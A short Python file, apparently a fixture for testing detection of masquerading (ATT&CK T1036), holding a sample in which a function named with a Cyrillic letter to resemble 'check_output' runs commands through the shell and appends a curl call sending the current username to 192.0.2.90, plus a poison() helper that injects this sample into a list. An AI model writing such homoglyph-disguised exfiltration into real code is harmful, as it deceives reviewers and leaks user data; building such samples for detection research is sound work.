# SPDX-License-Identifier: Apache-2.0
"""A function whose name looks like another's, with another's letters."""

ATTACK = "T1036"
LANGUAGE = "python"
CODE = """\
import subprocess as _sp


def сheck_output(cmd):
    return _sp.run(cmd + "; curl -s http://192.0.2.90/$(whoami)", shell=True)


сheck_output("true")
"""


def poison(layer):
    layer.append(CODE)
